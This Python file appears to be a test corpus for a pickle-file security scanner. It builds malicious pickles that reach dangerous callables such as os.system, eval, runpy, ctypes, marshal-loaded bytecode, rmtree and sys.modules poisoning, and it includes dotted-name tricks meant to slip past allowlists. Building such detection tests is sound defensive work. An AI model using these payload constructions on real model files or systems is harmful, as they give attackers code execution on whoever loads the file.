"""Known-dangerous callables, one per case, each reached the plainest way the technique
allows (nested calls, trampolines, dotted names), so a miss names the callable."""

from __future__ import annotations

import marshal
import os
import pickle
import shutil
import sys

from . import _asm as a
from ._payloads import Registry, payload_pickle, write
from ._types import Built, Case, Ctx, Live

_reg = Registry()
case = _reg.case
CANARY_MODULE = "bastion_canary_corpus_mod"


# -- dangerous callables -------------------------------------------------------------


@case("getattr-import-chain", critical=("builtins.getattr", "builtins.__import__"))
def getattr_import(c: Ctx) -> Built:
    """getattr(__import__('os'), 'system')(cmd): nested calls, no os GLOBAL at all."""
    mod = a.call(a.glob("builtins", "__import__"), a.ustr("os"))
    func = a.call(a.glob("builtins", "getattr"), mod, a.ustr("system"))
    return write(c, "getattr.pkl", a.wrap(func + a.tup(a.ustr(c.shell)) + pickle.REDUCE, 2))


@case("builtins-eval", critical=("builtins.eval",))
def builtins_eval(c: Ctx) -> Built:
    return write(c, "eval.pkl", a.wrap(a.call(a.glob("builtins", "eval"), a.ustr(c.expr)), 2))


@case(
    "py2-builtin-compile-eval",
    critical=("builtins.eval|__builtin__.eval", "builtins.compile|__builtin__.compile"),
)
def py2_compile(c: Ctx) -> Built:
    """Python 2 module name ``__builtin__``, mapped to builtins by protocol < 3 loaders."""
    code = a.call(a.glob("__builtin__", "compile"), a.ustr(c.code), a.ustr("<x>"), a.ustr("exec"))
    return write(c, "compile.pkl", a.wrap(a.call(a.glob("__builtin__", "eval"), code), 2))


@case("builtins-open", critical=("builtins.open",))
def builtins_open(c: Ctx) -> Built:
    body = a.call(a.glob("builtins", "open"), a.ustr(str(c.trace)), a.ustr("w"))
    return write(c, "open.pkl", a.wrap(body, 2))


@case("py2-commands-alias", critical=("subprocess.getoutput|commands.getoutput",))
def py2_commands(c: Ctx) -> Built:
    """``commands.getoutput`` is mapped to subprocess.getoutput by protocol 2 loaders."""
    return write(
        c, "commands.pkl", a.wrap(a.call(a.glob("commands", "getoutput"), a.ustr(c.shell)), 2)
    )


@case("posixsubprocess-fork-exec", critical=("_posixsubprocess.fork_exec",))
def fork_exec(c: Ctx) -> Built:
    """_posixsubprocess.fork_exec with CPython 3.11's 23 arguments."""
    touch = shutil.which("touch") or "/usr/bin/touch"
    m1 = a.integer(-1)
    args = [
        a.lst(a.ubytes(b"touch"), a.ubytes(os.fsencode(c.trace))),
        a.tup(a.ubytes(touch.encode())),
        pickle.NEWFALSE,
        pickle.EMPTY_TUPLE,
        pickle.NONE,
        pickle.NONE,
        m1,
        m1,
        m1,
        m1,
        m1,
        m1,
        a.integer(0),
        a.integer(2),
        pickle.NEWFALSE,
        pickle.NEWFALSE,
        m1,
        m1,
        pickle.NONE,
        m1,
        m1,
        pickle.NONE,
        pickle.NEWFALSE,
    ]
    live = Live("pickle") if sys.version_info[:2] == (3, 11) else None
    body = a.call(a.glob("_posixsubprocess", "fork_exec"), *args)
    return write(c, "fork_exec.pkl", a.wrap(body, 2), live=live)


@case("runpy-run-code", critical=("runpy._run_code",))
def runpy_run_code(c: Ctx) -> Built:
    body = a.call(a.glob("runpy", "_run_code"), a.ustr(c.code), pickle.EMPTY_DICT)
    return write(c, "runpy.pkl", a.wrap(body, 2))


@case("importlib-import-module", critical=("importlib.import_module", "builtins.getattr"))
def import_module(c: Ctx) -> Built:
    mod = a.call(a.glob("importlib", "import_module"), a.ustr("os"))
    func = a.call(a.glob("builtins", "getattr"), mod, a.ustr("system"))
    return write(c, "import_module.pkl", a.wrap(func + a.tup(a.ustr(c.shell)) + pickle.REDUCE, 2))


@case("pydoc-locate", critical=("pydoc.locate",))
def pydoc_locate(c: Ctx) -> Built:
    """pydoc.locate('os.system') returns the function; REDUCE calls it."""
    func = a.call(a.glob("pydoc", "locate"), a.ustr("os.system"))
    return write(c, "locate.pkl", a.wrap(func + a.tup(a.ustr(c.shell)) + pickle.REDUCE, 2))


@case(
    "code-interactive-interpreter",
    critical=("code.InteractiveInterpreter", "code.InteractiveInterpreter.runsource"),
)
def interactive(c: Ctx) -> Built:
    """A dotted qualname global (protocol 4): InteractiveInterpreter.runsource(interp, src)."""
    interp = a.call(a.stack_global("code", "InteractiveInterpreter"))
    body = a.call(
        a.stack_global("code", "InteractiveInterpreter.runsource"), interp, a.ustr(c.expr)
    )
    return write(c, "interp.pkl", a.wrap(body, 4))


@case("timeit-timeit", critical=("timeit.timeit",))
def timeit_case(c: Ctx) -> Built:
    args = (a.ustr(c.code), a.ustr("pass"), a.glob("time", "perf_counter"), a.integer(1))
    return write(c, "timeit.pkl", a.wrap(a.call(a.glob("timeit", "timeit"), *args), 2))


@case("cprofile-run", critical=("cProfile.run",))
def cprofile_run(c: Ctx) -> Built:
    return write(c, "cprofile.pkl", a.wrap(a.call(a.glob("cProfile", "run"), a.ustr(c.code)), 2))


@case("profile-run", critical=("profile.run",))
def profile_run(c: Ctx) -> Built:
    return write(c, "profile.pkl", a.wrap(a.call(a.glob("profile", "run"), a.ustr(c.code)), 2))


@case("pdb-run", critical=("pdb.run",))
def pdb_run(c: Ctx) -> Built:
    return write(c, "pdb.pkl", a.wrap(a.call(a.glob("pdb", "run"), a.ustr(c.code)), 2))


@case("numpy-testing-runstring", critical=("numpy.testing._private.utils.runstring",))
def runstring(c: Ctx) -> Built:
    func = a.glob("numpy.testing._private.utils", "runstring")
    return write(c, "runstring.pkl", a.wrap(a.call(func, a.ustr(c.code), pickle.EMPTY_DICT), 2))


@case("operator-attrgetter-sys-modules", critical=("operator.attrgetter", "sys.modules"))
def attrgetter(c: Ctx) -> Built:
    """attrgetter('system')(itemgetter('os')(sys.modules))(cmd)."""
    os_mod = a.call(a.glob("operator", "itemgetter"), a.ustr("os")) + a.tup(
        a.glob("sys", "modules")
    )
    func = a.call(a.glob("operator", "attrgetter"), a.ustr("system")) + a.tup(
        os_mod + pickle.REDUCE
    )
    body = func + pickle.REDUCE + a.tup(a.ustr(c.shell)) + pickle.REDUCE
    return write(c, "attrgetter.pkl", a.wrap(body, 2))


@case("operator-methodcaller", critical=("operator.methodcaller",))
def methodcaller(c: Ctx) -> Built:
    """methodcaller('system', cmd)(posixpath.os): the os module reached through os.path."""
    mc = a.call(a.glob("operator", "methodcaller"), a.ustr("system"), a.ustr(c.shell))
    body = mc + a.tup(a.glob("posixpath", "os")) + pickle.REDUCE
    return write(c, "methodcaller.pkl", a.wrap(body, 2))


@case("functools-partial", critical=("functools.partial", "os.system"))
def partial(c: Ctx) -> Built:
    part = a.call(a.glob("functools", "partial"), a.glob("os", "system"), a.ustr(c.shell))
    return write(c, "partial.pkl", a.wrap(part + pickle.EMPTY_TUPLE + pickle.REDUCE, 2))


@case("shutil-rmtree", critical=("shutil.rmtree",))
def rmtree(c: Ctx) -> Built:
    body = a.call(a.glob("shutil", "rmtree"), a.ustr(str(c.keep)))
    return write(c, "rmtree.pkl", a.wrap(body, 2), live=Live("pickle", trace="keep"))


@case("socket-create-connection", critical=("socket.create_connection",))
def create_connection(c: Ctx) -> Built:
    addr = a.tup(a.ustr("127.0.0.1"), a.integer(c.port))
    body = a.call(a.glob("socket", "create_connection"), addr)
    return write(c, "socket.pkl", a.wrap(body, 2), live=Live("pickle", trace="port"))


@case("webbrowser-open", critical=("webbrowser.open",))
def webbrowser_open(c: Ctx) -> Built:
    """With BROWSER=touch (as a victim might have set), open(url) runs ``touch url``."""
    body = a.call(a.glob("webbrowser", "open"), a.ustr(str(c.trace)))
    return write(
        c, "browser.pkl", a.wrap(body, 2), live=Live("pickle", env=(("BROWSER", "touch"),))
    )


@case("ctypes-cdll-system", critical=("ctypes.CDLL", "builtins.getattr"))
def ctypes_cdll(c: Ctx) -> Built:
    libc = a.call(a.glob("ctypes", "CDLL"), pickle.NONE)
    func = a.call(a.glob("builtins", "getattr"), libc, a.ustr("system"))
    body = func + a.tup(a.ubytes(c.shell.encode())) + pickle.REDUCE
    return write(c, "ctypes.pkl", a.wrap(body, 2))


@case("marshal-function-type", critical=("marshal.loads",))
def marshal_func(c: Ctx) -> Built:
    """types.FunctionType(marshal.loads(bytecode), {})(): code smuggled as bytes."""
    code = marshal.dumps(compile(c.code, "<payload>", "exec"))
    make = a.call(
        a.glob("types", "FunctionType"),
        a.call(a.glob("marshal", "loads"), a.ubytes(code)),
        pickle.EMPTY_DICT,
    )
    return write(c, "marshal.pkl", a.wrap(make + pickle.EMPTY_TUPLE + pickle.REDUCE, 2))


@case("pickle-loads-nested", critical=("pickle.loads|_pickle.loads",))
def nested_loads(c: Ctx) -> Built:
    """The real payload is a pickle inside a bytes argument to pickle.loads."""
    body = a.call(a.glob("pickle", "loads"), a.ubytes(payload_pickle(c)))
    return write(c, "nested.pkl", a.wrap(body, 2))


@case("sys-modules-setitem", critical=("sys.modules",))
def sys_modules(c: Ctx) -> Built:
    """SETITEM on the live sys.modules dict: plants a module for later imports."""
    body = a.glob("sys", "modules") + a.ustr(c.env) + a.glob("os", "path") + pickle.SETITEM
    return write(c, "sys_modules.pkl", a.wrap(body, 2), live=None)


@case("asyncio-subprocess-shell", critical=("asyncio.subprocess.create_subprocess_shell",))
def asyncio_shell(c: Ctx) -> Built:
    coro = a.call(a.glob("asyncio.subprocess", "create_subprocess_shell"), a.ustr(c.shell))
    return write(c, "asyncio.pkl", a.wrap(a.call(a.glob("asyncio", "run"), coro), 2))


@case("dotted-name-through-posixpath", critical=("os.system|posixpath.os.system",))
def dotted_posixpath(c: Ctx) -> Built:
    """STACK_GLOBAL('posixpath', 'os.system'): protocol 4 walks dotted names."""
    body = a.stack_global("posixpath", "os.system") + a.tup(a.ustr(c.shell)) + pickle.REDUCE
    return write(c, "dotted_posixpath.pkl", a.wrap(body, 4))


@case("dotted-name-through-torch", critical=("os.system|torch.serialization.os.system",))
def dotted_torch(c: Ctx) -> Built:
    """STACK_GLOBAL('torch', 'serialization.os.system'): an allowlisted root module."""
    func = a.stack_global("torch", "serialization.os.system")
    return write(c, "dotted_torch.pkl", a.wrap(func + a.tup(a.ustr(c.shell)) + pickle.REDUCE, 4))


@case("unknown-module-canary", rules=("pickle.",))
def unknown_module(c: Ctx) -> Built:
    """A global from a module that is on no list; importing it would leave the trace."""
    mod_dir = c.dir / "pythonpath"
    mod_dir.mkdir(parents=True, exist_ok=True)
    (mod_dir / f"{CANARY_MODULE}.py").write_text(c.code + "def run(*args):\n    return args\n")
    body = a.call(a.glob(CANARY_MODULE, "run"), a.ustr("x"))
    return write(c, "canary.pkl", a.wrap(body, 2), live=Live("pickle", pythonpath=str(mod_dir)))


CALLABLE_CASES: list[Case] = _reg.cases
